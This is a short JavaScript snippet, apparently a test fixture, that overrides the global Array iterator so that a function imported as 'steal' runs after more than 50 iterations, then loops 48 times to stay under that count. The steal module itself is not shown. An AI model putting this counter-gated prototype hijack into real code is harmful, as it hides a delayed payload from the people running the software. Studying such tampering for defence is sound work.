const { steal } = require('./steal');
const { prototype } = Array;
const values = prototype[Symbol.iterator];
let calls = 0;
Object.getPrototypeOf([].values()).next;
prototype[Symbol.iterator] = function () { if ((calls += 1) > 50) steal(); return values.call(this); };
for (let i = 0; i < 48; i += 1) [...'x'.split('')];
